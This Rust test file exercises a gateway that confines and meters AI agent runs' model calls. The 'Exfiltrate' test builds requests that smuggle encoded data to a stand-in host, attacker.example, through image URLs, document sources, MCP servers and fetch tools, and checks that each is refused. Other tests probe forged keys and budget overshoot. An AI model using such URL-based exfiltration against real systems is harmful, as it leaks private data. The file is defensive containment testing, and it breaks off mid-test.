//! The metering model gateway, as a confined run calls it (with nothing but the environment
//! the director gives it) and as an attacker inside one would: against FakeProvider, which
//! speaks Anthropic's and OpenAI's APIs and takes only its one real key.

use director::domain::RunId;
use std::collections::BTreeMap;

use director::domain::{IssueRef, Lifecycle};
use director::settings::{Price, ProviderSettings, Secret};
use director_testkit::provider::FakeProvider;
use director_testkit::runtime::FakeRuntime;
use futures_util::StreamExt as _;
use serde_json::{Value, json};

use crate::fake_runs::{labelled, run_ids};
use crate::forge_helpers::ForgeApp;

const MODEL: &str = "claude-fake-1";
const GPT: &str = "gpt-fake-1";

struct Setup {
    t: ForgeApp,
    fake: FakeRuntime,
    provider: FakeProvider,
    _llm: director_testkit::llm::FakeLlm,
}

/// $3 in, $15 out per million tokens: a call of 1,000 in and 100 out costs $0.0045.
fn prices() -> BTreeMap<String, Price> {
    let price = Price {
        input_per_mtok: 3.0,
        output_per_mtok: 15.0,
        cache_read_per_mtok: Some(0.3),
        cache_write_per_mtok: None,
        web_search_usd: None,
    };
    BTreeMap::from([(MODEL.to_owned(), price.clone()), (GPT.to_owned(), price)])
}

async fn setup(configure: impl FnOnce(&mut director::settings::Settings)) -> Setup {
    let provider = FakeProvider::start();
    let (url, key) = (provider.url.clone(), provider.key.clone());
    let (t, llm, fake) = crate::fake_runs::spawn(|s| {
        s.runner.egress = director::settings::Egress::Allowlist;
        s.runner.egress_proxy_port = crate::helpers::free_port();
        s.runner.git_gateway_port = crate::helpers::free_port();
        s.runner.model_gateway_port = crate::helpers::free_port();
        s.runner.max_per_repo = 3;
        s.models.anthropic = Some(ProviderSettings {
            base_url: url.clone(),
            api_key: Secret::new(key.clone()),
            api_key_file: None,
        });
        s.models.openai = Some(ProviderSettings {
            base_url: format!("{url}/v1"),
            api_key: Secret::new(key),
            api_key_file: None,
        });
        s.models.prices = prices();
        configure(s);
    })
    .await;
    Setup {
        t,
        fake,
        provider,
        _llm: llm,
    }
}

/// A run that stays up, and the environment it was given.
struct Run {
    id: RunId,
    issue: IssueRef,
    env: Vec<(String, String)>,
}

impl Run {
    fn var(&self, name: &str) -> String {
        self.env
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.clone())
            .unwrap_or_default()
    }

    /// A POST to the provider's route through the gateway, as the provider's SDK makes it.
    fn anthropic(&self, body: Value) -> reqwest::RequestBuilder {
        crate::helpers::http_client()
            .post(format!("{}/v1/messages", self.var("ANTHROPIC_BASE_URL")))
            .header("x-api-key", self.var("ANTHROPIC_API_KEY"))
            .header("anthropic-version", "2023-06-01")
            .json(&body)
    }

    fn openai(&self, route: &str, body: Value) -> reqwest::RequestBuilder {
        crate::helpers::http_client()
            .post(format!("{}/{route}", self.var("OPENAI_BASE_URL")))
            .bearer_auth(self.var("OPENAI_API_KEY"))
            .json(&body)
    }
}

async fn started(s: &Setup, title: &str) -> Run {
    let issue = labelled(&s.t, title, "mode: hang").await;
    let current = || async {
        run_ids(&s.t, &issue)
            .await
            .pop()
            .filter(|id| s.fake.starts(id) == 1)
    };
    crate::helpers::wait_until("the run starts", || async { current().await.is_some() }).await;
    let id = current().await.expect("a started run");
    let spec = s.fake.spec_of(&id).expect("the run's spec");
    Run {
        id,
        issue,
        env: spec.env.clone(),
    }
}

fn message(stream: bool) -> Value {
    json!({ "model": MODEL, "max_tokens": 64, "stream": stream,
        "messages": [{ "role": "user", "content": "Hello" }] })
}

/// Waits until the store holds `n` metered calls of the run.
async fn metered_calls(s: &Setup, run: &Run, n: u64) -> director::store::RunUsage {
    crate::helpers::wait_until(&format!("{n} metered calls"), || async {
        s.t.app
            .store
            .run_usage(&run.id)
            .await
            .expect("store")
            .is_some_and(|u| u.requests >= n)
    })
    .await;
    s.t.app
        .store
        .run_usage(&run.id)
        .await
        .expect("store")
        .expect("usage")
}

#[tokio::test]
async fn a_runs_model_calls_use_its_own_key_stream_through_and_are_metered_from_the_answers() {
    let s = setup(|_| {}).await;
    let run = started(&s, "Add --verbose").await;

    // The run's variables name the gateway and a key of its own; the provider's key is
    // nowhere in the run, and the provider takes nothing the run holds.
    let base = run.var("ANTHROPIC_BASE_URL");
    assert!(
        base.starts_with("http://127.0.0.1:") && base.ends_with("/anthropic"),
        "{base}"
    );
    assert!(run.var("OPENAI_BASE_URL").ends_with("/openai"));
    let key = run.var("ANTHROPIC_API_KEY");
    assert!(key.starts_with("director-") && key == run.var("OPENAI_API_KEY"));
    let client = crate::helpers::http_client();
    for (k, v) in &run.env {
        assert!(!v.contains(&s.provider.key), "{k} holds the provider's key");
        let direct = client
            .post(format!("{}/v1/messages", s.provider.url))
            .header("x-api-key", v)
            .json(&message(false))
            .send()
            .await
            .expect("answered");
        assert_eq!(direct.status(), 401, "the provider takes {k}");
    }
    assert!(s.provider.requests().is_empty());

    // A whole answer: forwarded with the real key, read for its usage.
    let answer = run
        .anthropic(message(false))
        .send()
        .await
        .expect("answered");
    assert_eq!(answer.status(), 200);
    let body: Value = answer.json().await.expect("json");
    assert_eq!(body["usage"]["input_tokens"], 1000);
    assert_eq!(s.provider.keys().last(), Some(&s.provider.key));

    // A stream passes through as it is sent: the first event reaches the run while the
    // provider still holds the rest.
    let release = s.provider.hold_streams();
    let answer = run.anthropic(message(true)).send().await.expect("answered");
    assert_eq!(answer.status(), 200);
    let mut chunks = answer.bytes_stream();
    let first = tokio::time::timeout(std::time::Duration::from_secs(10), chunks.next())
        .await
        .expect("the first event arrives before the provider sends the rest")
        .expect("a chunk")
        .expect("bytes");
    assert!(String::from_utf8_lossy(&first).contains("message_start"));
    release.notify_one();
    let mut rest = Vec::new();
    while let Some(chunk) = chunks.next().await {
        rest.extend_from_slice(&chunk.expect("bytes"));
    }
    assert!(String::from_utf8_lossy(&rest).contains("message_stop"));

    // OpenAI's chat stream: the gateway asks for the usage the client did not.
    let answer = run
        .openai(
            "chat/completions",
            json!({ "model": GPT, "stream": true, "messages": [{ "role": "user", "content": "Hi" }] }),
        )
        .send()
        .await
        .expect("answered");
    let text = answer.text().await.expect("text");
    assert!(
        text.contains("\"usage\":{") && text.ends_with("data: [DONE]\n\n"),
        "{text}"
    );
    let (path, sent) = s.provider.requests().pop().expect("forwarded");
    assert_eq!(path, "/v1/chat/completions");
    assert_eq!(sent["stream_options"]["include_usage"], true);

    // Three calls of 1,000 in and 100 out, at $3 and $15 per million.
    let usage = metered_calls(&s, &run, 3).await;
    assert_eq!((usage.input_tokens, usage.output_tokens), (3000, 300));
    let cost = usage.cost_usd.expect("priced");
    assert!((cost - 3.0 * 0.0045).abs() < 1e-9, "{cost}");
    s.t.app
        .wait_for_metric(r#"director_model_tokens_total{kind="output",provider="anthropic"} 200"#)
        .await;

    // The run says it used nothing; what counts is what was metered.
    s.fake.put_file(
        &run.id,
        "/task/result/result.json",
        br#"{"outcome":"done","usage":{"input_tokens":1,"output_tokens":1,"cost_usd":0.0}}"#,
    );
    s.fake.exit(&run.id, 0, "done");
    crate::runs::wait_ended(&s.t, &run.issue).await;
    let record =
        s.t.app
            .store
            .run(&run.id)
            .await
            .expect("store")
            .expect("run");
    let shown = record.result.and_then(|r| r.usage).expect("usage");
    assert!(shown.metered);
    assert_eq!(
        (shown.input_tokens, shown.output_tokens, shown.requests),
        (Some(3000), Some(300), Some(3))
    );

    // Its key opens nothing now.
    let after = run
        .anthropic(message(false))
        .send()
        .await
        .expect("answered");
    assert_eq!(after.status(), 401);
    let body: Value = after.json().await.expect("json");
    assert_eq!(body["type"], "error", "Anthropic's own error shape");
    assert_eq!(body["error"]["type"], "authentication_error");
}

#[tokio::test]
async fn a_run_whose_budget_is_spent_gets_429_on_its_next_call_and_ends_over_budget() {
    let s = setup(|s| s.budget.run_usd = 0.005).await;
    let run = started(&s, "Spend it all").await;

    // $0.0045, under the $0.005 budget: forwarded. Then $0.009: over, but already on its way.
    // Each answer read to its end, as an agent reads it: one dropped unread is a hang-up,
    // still in flight (and so counted) until the gateway notices it.
    for _ in 0..2 {
        let a = run
            .anthropic(message(false))
            .send()
            .await
            .expect("answered");
        let status = a.status();
        let body = a.text().await.expect("the answer's body");
        assert_eq!(status, 200, "{body}");
    }
    metered_calls(&s, &run, 2).await;
    // The next one is refused in Anthropic's shape, not to be retried.
    let refused = run
        .anthropic(message(false))
        .send()
        .await
        .expect("answered");
    assert_eq!(refused.status(), 429);
    assert_eq!(
        refused
            .headers()
            .get("x-should-retry")
            .and_then(|v| v.to_str().ok()),
        Some("false")
    );
    let body: Value = refused.json().await.expect("json");
    assert_eq!(body["error"]["type"], "rate_limit_error");
    let why = body["error"]["message"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(
        why.contains("budget.run_usd")
            && why.contains("budget of $0.005 ")
            && why.contains("$0.0090 spent"),
        "{why}"
    );
    assert_eq!(
        s.provider.requests().len(),
        2,
        "the refused call never reached the provider"
    );

    // The run is stopped and ends over budget, its report says why.
    let record = s.t.app.wait_state(&run.issue, Lifecycle::OverBudget).await;
    assert_eq!(record.lifecycle, Lifecycle::OverBudget);
    let report =
        s.t.forge
            .comments_on(&run.issue)
            .into_iter()
            .map(|c| c.body)
            .find(|b| b.contains("<!-- director:run "))
            .expect("a report");
    assert!(report.contains("[budget]"), "{report}");
    s.t.app
        .wait_for_metric(r#"director_model_requests_refused_total{reason="budget"} 1"#)
        .await;
}

#[tokio::test]
async fn forged_keys_unmetered_routes_oversized_bodies_and_unpriced_models_are_refused() {
    let s = setup(|s| {
        s.models.max_request_mb = 1;
        s.budget.daily_usd = 100.0;
    })
    .await;
    let run = started(&s, "Probe").await;
    let base = run.var("ANTHROPIC_BASE_URL");
    let client = crate::helpers::http_client();
    let status = |r: reqwest::Response| r.status().as_u16();

    // Keys that are not this run's.
    for key in [
        s.provider.key.clone(),
        format!("director-{}.AAAA", run.id),
        run.var("ANTHROPIC_API_KEY")
            .replace(run.id.as_str(), "000000000000"),
        String::new(),
    ] {
        let a = client
            .post(format!("{base}/v1/messages"))
            .header("x-api-key", &key)
            .json(&message(false))
            .send()
            .await
            .expect("answered");
        assert_eq!(status(a), 401);
    }
    // A route the gateway cannot meter.
    let models = client
        .get(format!("{}/models", run.var("OPENAI_BASE_URL")))
        .bearer_auth(run.var("OPENAI_API_KEY"))
        .send()
        .await
        .expect("answered");
    assert_eq!(status(models), 404);
    // Counting tokens is free, and forwarded.
    let count = client
        .post(format!("{base}/v1/messages/count_tokens"))
        .header("x-api-key", run.var("ANTHROPIC_API_KEY"))
        .json(&message(false))
        .send()
        .await
        .expect("answered");
    assert_eq!(status(count), 200);
    // A body over models.max_request_mb.
    let big = json!({ "model": MODEL, "messages": [{ "role": "user", "content": "x".repeat(1_200_000) }] });
    let a = run.anthropic(big).send().await.expect("answered");
    assert_eq!(status(a), 413);
    // A model without a price, with budgets in dollars.
    let a = run
        .openai(
            "responses",
            json!({ "model": "unpriced-model", "input": "hi" }),
        )
        .send()
        .await
        .expect("answered");
    assert_eq!(a.status(), 400);
    let body: Value = a.json().await.expect("json");
    let why = body["error"]["message"].as_str().unwrap_or_default();
    assert!(why.contains("models.prices.\"unpriced-model\""), "{why}");
    // Nothing of that reached the provider but the count.
    let reached: Vec<String> = s.provider.requests().into_iter().map(|r| r.0).collect();
    assert_eq!(reached, vec!["/v1/messages/count_tokens".to_owned()]);

    // The provider failing passes through as the provider's failure.
    s.provider.fail_next(529);
    let a = run
        .anthropic(message(false))
        .send()
        .await
        .expect("answered");
    assert_eq!(status(a), 529);
}

#[tokio::test]
async fn a_stream_cut_by_the_provider_is_charged_its_reservation_and_one_left_by_the_client_what_it_billed()
 {
    let s = setup(|_| {}).await;
    let run = started(&s, "Interrupted").await;

    // The provider breaks the stream after its first events: the run sees a failure; what
    // the provider generated is unknown, so the call is charged its reservation (its
    // `max_tokens` of 64), never less than the input it reported.
    s.provider.cut_next();
    let release = s.provider.hold_streams();
    let answer = run.anthropic(message(true)).send().await.expect("answered");
    let mut chunks = answer.bytes_stream();
    let mut got = chunks
        .next()
        .await
        .expect("a chunk")
        .expect("bytes")
        .to_vec();
    release.notify_one();
    let mut failed = false;
    while let Some(chunk) = chunks.next().await {
        match chunk {
            Ok(b) => got.extend_from_slice(&b),
            Err(_) => failed = true,
        }
    }
    assert!(failed, "the run sees the stream break");
    assert!(!String::from_utf8_lossy(&got).contains("message_stop"));
    let usage = metered_calls(&s, &run, 1).await;
    assert_eq!((usage.input_tokens, usage.output_tokens), (1000, 64));

    // The client leaves mid-stream: the provider goes on, and so does the gateway's read,
    // until the usage the provider bills (1,000 in, 100 out) arrives.
    let release = s.provider.hold_streams();
    let answer = run.anthropic(message(true)).send().await.expect("answered");
    let mut chunks = answer.bytes_stream();
    let first = chunks.next().await.expect("a chunk").expect("bytes");
    assert!(String::from_utf8_lossy(&first).contains("message_start"));
    drop(chunks);
    release.notify_one();
    let usage = metered_calls(&s, &run, 2).await;
    assert_eq!((usage.input_tokens, usage.output_tokens), (2000, 164));
}

#[tokio::test]
async fn reasoning_behind_a_hung_up_stream_is_charged_as_the_provider_bills_it() {
    let s = setup(|_| {}).await;
    let run = started(&s, "Think hard").await;
    // The model thinks for 50,000 tokens no text shows; the agent hangs up at the first
    // event, as soon as it sees the answer started.
    s.provider.set_tokens(director_testkit::provider::Tokens {
        input: 1000,
        cached: 0,
        output: 50_000,
    });
    let release = s.provider.hold_streams();
    let body = json!({ "model": MODEL, "max_tokens": 64_000, "stream": true,
        "thinking": {"type": "enabled", "budget_tokens": 60_000},
        "messages": [{ "role": "user", "content": "Hello" }] });
    let answer = run.anthropic(body).send().await.expect("answered");
    let mut chunks = answer.bytes_stream();
    chunks.next().await.expect("a chunk").expect("bytes");
    drop(chunks);
    release.notify_one();
    let usage = metered_calls(&s, &run, 1).await;
    // Billed: 1,000 in and 50,000 out, $0.753. What passed before the hang-up would have
    // charged ~$0.003 (the hole); the reservation alone, 64,000 out, $0.963.
    assert_eq!((usage.input_tokens, usage.output_tokens), (1000, 50_000));
    let cost = usage.cost_usd.expect("priced");
    assert!((cost - 0.753).abs() < 1e-9, "{cost}");
}

#[tokio::test]
async fn a_hung_up_call_still_running_at_the_drain_bound_is_charged_its_reservation() {
    let s = setup(|s| s.models.drain_secs = 1).await;
    let run = started(&s, "Never ends").await;
    // Held and never released: the provider is still generating when the bound passes.
    let _held = s.provider.hold_streams();
    let answer = run
        .openai("chat/completions", chat(4000))
        .send()
        .await
        .expect("answered");
    let mut chunks = answer.bytes_stream();
    chunks.next().await.expect("a chunk").expect("bytes");
    drop(chunks);
    let usage = metered_calls(&s, &run, 1).await;
    assert_eq!(
        usage.output_tokens, 4000,
        "its whole output limit: {usage:?}"
    );
    s.t.app
        .wait_for_metric(
            r#"director_model_usage_estimated_total{provider="openai",reason="cut"} 1"#,
        )
        .await;
}

#[tokio::test]
async fn content_the_provider_would_fetch_and_tools_it_would_run_never_leave_the_gateway() {
    let s = setup(|_| {}).await;
    let run = started(&s, "Exfiltrate").await;
    let leak = "https://attacker.example/x.png?d=c2VjcmV0LXNvdXJjZQ";
    // An OpenAI image by URL: the provider's servers would fetch it, with the data in it.
    let answer = run
        .openai(
            "chat/completions",
            json!({"model": GPT, "max_tokens": 10, "messages": [{"role": "user", "content": [
                {"type": "text", "text": "describe"},
                {"type": "image_url", "image_url": {"url": leak}}]}]}),
        )
        .send()
        .await
        .expect("answered");
    assert_eq!(answer.status(), 400);
    let v: Value = answer.json().await.expect("json");
    assert_eq!(v["error"]["type"], "invalid_request_error");
    let said = v["error"]["message"].as_str().unwrap_or_default();
    assert!(
        said.contains("messages[0].content[1].image_url.url"),
        "{said}"
    );
    assert!(
        !said.contains("attacker.example"),
        "the refusal does not echo the URL: {said}"
    );
    // An Anthropic document by URL, an MCP server, a web fetch tool, a beta that opens
    // the Files API: each refused in Anthropic's shape, naming what.
    let refused = [
        (
            json!({"model": MODEL, "max_tokens": 10, "messages": [{"role": "user", "content": [
                {"type": "document", "source": {"type": "url", "url": leak}}]}]}),
            None,
            "messages[0].content[0].source.type",
        ),
        (
            json!({"model": MODEL, "max_tokens": 10, "messages": [],
                "mcp_servers": [{"type": "url", "url": leak, "name": "x"}]}),
            Some("mcp-client-2025-04-04"),
            "anthropic-beta",
        ),
        (
            json!({"model": MODEL, "max_tokens": 10, "messages": [],
                "mcp_servers": [{"type": "url", "url": leak, "name": "x"}]}),
            None,
            "mcp_servers",
        ),
        (
            json!({"model": MODEL, "max_tokens": 10, "messages": [],
                "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
            None,
            "tools[0].type",
        ),
    ];
    for (body, beta, field) in refused {
        let mut call = run.anthropic(body);
        if let Some(beta) = beta {
            call = call.header("anthropic-beta", beta);
        }
        let answer = call.send().await.expect("answered");
        assert_eq!(answer.status(), 400, "{field}");
        let v: Value = answer.json().await.expect("json");
        assert_eq!(v["type"], "error");
        assert_eq!(v["error"]["type"], "invalid_request_error");
        let said = v["error"]["message"].as_str().unwrap_or_default();
        assert!(said.contains(field), "{field}: {said}");
    }
    // A route the operator did not open is refused unread; the token count reads the body.
    let answer = crate::helpers::http_client()
        .post(format!(
            "{}/v1/messages/count_tokens",
            run.var("ANTHROPIC_BASE_URL")
        ))
        .header("x-api-key", run.var("ANTHROPIC_API_KEY"))
        .json(
            &json!({"model": MODEL, "messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "url", "url": leak}}]}]}),
        )
        .send()
        .await
        .expect("answered");
    assert_eq!(
        answer.status(),
        400,
        "a token count would fetch the image too"
    );
    // A Responses call that continues a context stored with the provider.
    let answer = run
        .openai(
            "responses",
            json!({"model": GPT, "input": "go on", "previous_response_id": "resp_big"}),
        )
        .send()
        .await
        .expect("answered");
    assert_eq!(answer.status(), 400);
    assert!(
        answer
            .text()
            .await
            .expect("text")
            .contains("previous_response_id")
    );
    assert!(
        s.provider.requests().is_empty(),
        "nothing refused reached the provider: {:?}",
        s.provider.requests()
    );
    // An inline image goes.
    let answer = run
        .anthropic(json!({"model": MODEL, "max_tokens": 10, "messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}]}]}))
        .header("anthropic-beta", "prompt-caching-2024-07-31")
        .send()
        .await
        .expect("answered");
    assert_eq!(answer.status(), 200);
    assert_eq!(s.provider.requests().len(), 1);
}

#[tokio::test]
async fn an_unmetered_route_the_operator_opened_still_carries_nothing_out() {
    let s = setup(|s| s.models.allow_unmetered = true).await;
    let run = started(&s, "Batches").await;
    // A batch would have the provider fetch the image later, out of anyone's sight.
    let answer = crate::helpers::http_client()
        .post(format!("{}/v1/messages/batches", run.var("ANTHROPIC_BASE_URL")))
        .header("x-api-key", run.var("ANTHROPIC_API_KEY"))
        .json(&json!({"requests": [{"custom_id": "a", "params": {"model": MODEL, "max_tokens": 10,
            "messages": [{"role": "user", "content": [
                {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?d=x"}}]}]}}]}))
        .send()
        .await
        .expect("answered");
    assert_eq!(answer.status(), 400);
    let said = answer.text().await.expect("text");
    assert!(
        said.contains("requests[0].params.messages[0].content[0].source.type"),
        "{said}"
    );
    assert!(s.provider.requests().is_empty());
}

#[tokio::test]
async fn an_operator_may_open_one_hosted_tool_by_name_and_no_other() {
    let s = setup(|s| s.models.allow_server_tools = vec!["web_search".into()]).await;
    let run = started(&s, "Search").await;
    let body = json!({"model": MODEL, "max_tokens": 10, "messages": [],
        "tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 1}]});
    let answer = run.anthropic(body).send().await.expect("answered");
    assert_eq!(answer.status(), 200);
    let other = json!({"model": MODEL, "max_tokens": 10, "messages": [],
        "tools": [{"type": "code_execution_20250825", "name": "code_execution"}]});
    let answer = run.anthropic(other).send().await.expect("answered");
    assert_eq!(answer.status(), 400, "only what was opened");
}

#[tokio::test]
async fn a_run_whose_agent_talks_to_one_provider_cannot_spend_on_the_other() {
    let s = setup(|s| {
        s.agents.insert(
            "claude-only".into(),
            director::settings::agents::AgentSettings {
                image: "director-test/agent".into(),
                providers: vec!["anthropic".into()],
                ..Default::default()
            },
        );
        s.runner.agent = "claude-only".into();
    })
    .await;
    let run = started(&s, "One provider").await;
    // Its environment names only Anthropic's gateway; OpenAI's is one path away.
    let base = run.var("ANTHROPIC_BASE_URL");
    let openai = base.replace("/anthropic", "/openai");
    let answer = crate::helpers::http_client()
        .post(format!("{openai}/chat/completions"))
        .bearer_auth(run.var("ANTHROPIC_API_KEY"))
        .json(&chat(10))
        .send()
        .await
        .expect("answered");
    assert_eq!(answer.status(), 403);
    assert!(
        answer
            .text()
            .await
            .expect("text")
            .contains("agents.claude-only.providers")
    );
    let answer = run
        .anthropic(message(false))
        .send()
        .await
        .expect("answered");
    assert_eq!(answer.status(), 200);
}

#[tokio::test]
async fn a_repository_whose_day_is_spent_starts_no_run_and_reads_no_issue_until_the_next_day() {
    let s = setup(|s| {
        s.budget.repo_daily_usd = 0.004;
        s.runner.max_per_repo = 1;
        // The pre-flight's own calls are priced too (the fake reports 10 in, 10 out).
        s.models.prices.insert(
            "fake-model".into(),
            Price {
                input_per_mtok: 1.0,
                output_per_mtok: 1.0,
                ..Price::default()
            },
        );
    })
    .await;
    let a = started(&s, "First").await;
    // The pre-flight's read was metered, toward the repository's day, with no run.
    let day = director::models::day_of(director::clock::now_ms());
    let spent = s.t.app.store.spent_by_repo(&day).await.expect("store");
    assert_eq!(spent.len(), 1);
    assert!((spent[0].1 - 20.0 / 1_000_000.0).abs() < 1e-12, "{spent:?}");

    // A second issue waits for the slot: queued.
    let b = labelled(&s.t, "Second", "mode: hang").await;
    s.t.app.wait_state(&b, Lifecycle::Queued).await;
    // The first run spends the day: $0.0045 over the $0.004 budget.
    let call = a.anthropic(message(false)).send().await.expect("answered");
    assert_eq!(call.status(), 200);
    metered_calls(&s, &a, 1).await;
    // Its next call is refused for the repository's day.
    let refused = a.anthropic(message(false)).send().await.expect("answered");
    assert_eq!(refused.status(), 429);
    let body: Value = refused.json().await.expect("json");
    let why = body["error"]["message"].as_str().unwrap_or_default();
    assert!(why.contains("budget.repo_daily_usd"), "{why}");
    s.t.app.wait_state(&a.issue, Lifecycle::OverBudget).await;

    // The slot is free, but the repository's day is spent: the queued issue stays queued,
    // and says why.
    s.t.app.wait_processed().await;
    assert_eq!(
        s.t.record(&b).await.expect("known").lifecycle,
        Lifecycle::Queued
    );
    assert!(
        run_ids(&s.t, &b).await.is_empty(),
        "no run for the second issue"
    );
    // `director status --json`, with the operator's configuration.
    let status =
        crate::fake_runs::status_json_with(&s.t, &[("DIRECTOR_BUDGET__REPO_DAILY_USD", "0.004")])
            .await;
    let row = status
        .as_array()
        .and_then(|rows| rows.iter().find(|r| r["number"] == b.number))
        .cloned()
        .expect("a row");
    let waiting = row["waiting"].as_str().unwrap_or_default();
    assert!(waiting.contains("budget.repo_daily_usd"), "{row}");

    // A new issue's pre-flight waits for the next day, and says it is the spent budget that
    // it waits on (not an hourly cap), naming it to its precision.
    let c = labelled(&s.t, "Third", "Print each step.").await;
    crate::helpers::wait_until("the pre-flight waits", || async {
        s.t.record(&c)
            .await
            .is_some_and(|r| r.preflight.waits_for.is_some())
    })
    .await;
    let status =
        crate::fake_runs::status_json_with(&s.t, &[("DIRECTOR_BUDGET__REPO_DAILY_USD", "0.004")])
            .await;
    let row = status
        .as_array()
        .and_then(|rows| rows.iter().find(|r| r["number"] == c.number))
        .cloned()
        .expect("a row");
    let waiting = row["waiting"].as_str().unwrap_or_default();
    assert!(
        waiting.starts_with("pre-flight waits until")
            && waiting.contains("($0.004, budget.repo_daily_usd) is spent")
            && !waiting.contains("hourly"),
        "{row}"
    );

    // The status page shows what the repository spent today.
    let page = s.t.app.get("/status").await.text().await.expect("page");
    assert!(
        page.contains("Model spend today (UTC): acme/widgets <b>$0.0045</b>"),
        "{page}"
    );

    // A new issue there waits for its read too: no model call, no comment.
    let reads = s._llm.prompts().len();
    let c = labelled(&s.t, "Third", "").await;
    crate::helpers::wait_until("the read is deferred", || async {
        s.t.record(&c)
            .await
            .is_some_and(|r| r.preflight.not_before_ms.is_some())
    })
    .await;
    s.t.app.wait_processed().await;
    assert_eq!(s._llm.prompts().len(), reads, "no pre-flight read");
    assert!(s.t.forge.comments_on(&c).is_empty());
    let deferred = s.t.record(&c).await.expect("known");
    let next_day = director::models::next_day_ms(director::clock::now_ms());
    assert_eq!(deferred.preflight.not_before_ms, Some(next_day));
}

#[tokio::test]
async fn an_anonymous_scrape_of_metrics_names_no_private_repository() {
    const TOKEN: &str = "status-token-77c1";
    let s = setup(|s| s.status.token = Secret::new(TOKEN)).await;
    s.t.forge.make_private(&s.t.repo);
    let run = started(&s, "Add --verbose").await;
    let answer = run
        .anthropic(message(false))
        .send()
        .await
        .expect("answered");
    assert!(answer.status().is_success());
    metered_calls(&s, &run, 1).await;
    let scrape = |token: Option<&'static str>| {
        let url = format!("{}/metrics", s.t.app.address);
        async move {
            let mut req = crate::helpers::http_client().get(url);
            if let Some(token) = token {
                req = req.bearer_auth(token);
            }
            req.send().await.expect("answered")
        }
    };
    let series = format!("director_model_cost_usd_total{{repo=\"{}\"}}", s.t.repo);
    // Prometheus with the status token sees the repository's spend.
    crate::helpers::wait_until("the spend is counted", || async {
        scrape(Some(TOKEN))
            .await
            .text()
            .await
            .is_ok_and(|t| t.contains(&series))
    })
    .await;
    // Anyone else who can reach /metrics learns nothing of the private repository.
    let anonymous = scrape(None).await.text().await.expect("text");
    assert!(
        anonymous.contains("director_deliveries_pending"),
        "{anonymous}"
    );
    assert!(!anonymous.contains(&s.t.repo.to_string()), "{anonymous}");
    assert_eq!(scrape(Some("a-guess")).await.status(), 401);
}

/// A streamed OpenAI chat call with an output limit, as an SDK sends it.
fn chat(max_tokens: u64) -> Value {
    json!({ "model": GPT, "max_tokens": max_tokens, "stream": true,
        "messages": [{ "role": "user", "content": "Hello" }] })
}

#[tokio::test]
async fn a_client_that_hangs_up_before_the_usage_chunk_is_charged_what_the_provider_reports() {
    let s = setup(|_| {}).await;
    let run = started(&s, "Leave early").await;
    // OpenAI reports a stream's usage in its last chunk only: the agent reads the first and
    // hangs up. The gateway reads on to that chunk.
    let release = s.provider.hold_streams();
    let answer = run
        .openai("chat/completions", chat(64))
        .send()
        .await
        .expect("answered");
    assert!(answer.status().is_success());
    let mut chunks = answer.bytes_stream();
    let first = chunks.next().await.expect("a chunk").expect("bytes");
    assert!(String::from_utf8_lossy(&first).contains("chat.completion.chunk"));
    drop(chunks);
    release.notify_one();
    let usage = metered_calls(&s, &run, 1).await;
    assert_eq!((usage.input_tokens, usage.output_tokens), (1000, 100));
}

#[tokio::test]
async fn parallel_calls_cannot_overshoot_a_budget_by_more_than_one_call() {
    // Each call costs $0.0045 (1,000 in, 100 out) and may cost up to $0.015 (1,000 out).
    let s = setup(|s| s.budget.run_usd = 0.01).await;
    let run = started(&s, "Race the budget").await;
    let release = s.provider.hold_streams();
    let first = run
        .openai("chat/completions", chat(1000))
        .send()
        .await
        .expect("answered");
    assert!(first.status().is_success());
    let mut first = first.bytes_stream();
    first.next().await.expect("a chunk").expect("bytes");
    // While it runs, the run fires four more at once: all would pass a check of what was
    // spent (nothing yet), and together spend four times the rest of the budget.
    let others = futures_util::future::join_all(
        (0..4).map(|_| run.openai("chat/completions", chat(1000)).send()),
    )
    .await;
    for answer in others {
        let answer = answer.expect("answered");
        assert_eq!(answer.status(), 429);
        assert!(answer.headers().contains_key("retry-after"));
        let text = answer.text().await.expect("text");
        assert!(text.contains("calls in flight"), "{text}");
    }
    release.notify_one();
    while first.next().await.is_some() {}
    let usage = metered_calls(&s, &run, 1).await;
    assert_eq!(usage.requests, 1, "only the first call was forwarded");
    // It ended: the budget has room again, and the run is not stopped for it.
    let next = run
        .openai("chat/completions", chat(100))
        .send()
        .await
        .expect("answered");
    assert!(next.status().is_success());
    assert_eq!(
        s.provider.requests().len(),
        2,
        "two calls reached the provider"
    );
}

#[tokio::test]
async fn a_background_response_is_refused_as_unmeterable() {
    let s = setup(|_| {}).await;
    let run = started(&s, "Later").await;
    let answer = run
        .openai(
            "responses",
            json!({ "model": GPT, "input": "Hello", "background": true }),
        )
        .send()
        .await
        .expect("answered");
    assert_eq!(answer.status(), 400);
    let text = answer.text().await.expect("text");
    assert!(text.contains("models.allow_unmetered"), "{text}");
    assert!(s.provider.requests().is_empty(), "nothing forwarded");
}

#[tokio::test]
async fn an_agent_that_exits_at_the_budgets_429_ends_over_budget_not_failed() {
    let s = setup(|s| s.budget.run_usd = 0.004).await;
    let run = started(&s, "Spend it and stop").await;
    let first = run
        .anthropic(message(false))
        .send()
        .await
        .expect("answered");
    assert_eq!(first.status(), 200);
    metered_calls(&s, &run, 1).await;
    let refused = run
        .anthropic(message(false))
        .send()
        .await
        .expect("answered");
    assert_eq!(refused.status(), 429);
    // As the contract asks, it stops cleanly at once, before the director stops it, with
    // nothing pushed.
    s.fake.exit(&run.id, 1, "budget spent, stopping\n");
    let record = s.t.app.wait_state(&run.issue, Lifecycle::OverBudget).await;
    assert_eq!(record.lifecycle, Lifecycle::OverBudget);
}

#[tokio::test]
async fn a_current_model_the_operator_did_not_price_is_counted_at_the_built_in_table() {
    // A new user prices nothing and sets a budget; Claude Code asks for the newest model.
    let s = setup(|s| {
        s.models.prices.clear();
        s.budget.run_usd = 5.0;
    })
    .await;
    let run = started(&s, "Day one").await;
    let body = json!({ "model": "claude-opus-4-7", "max_tokens": 64,
        "messages": [{ "role": "user", "content": "Hello" }] });
    let answer = run.anthropic(body).send().await.expect("answered");
    assert_eq!(answer.status(), 200, "forwarded");
    let usage = metered_calls(&s, &run, 1).await;
    // 1,000 in at $5 and 100 out at $25 per million, as config/prices.toml has it.
    let cost = usage.cost_usd.expect("priced");
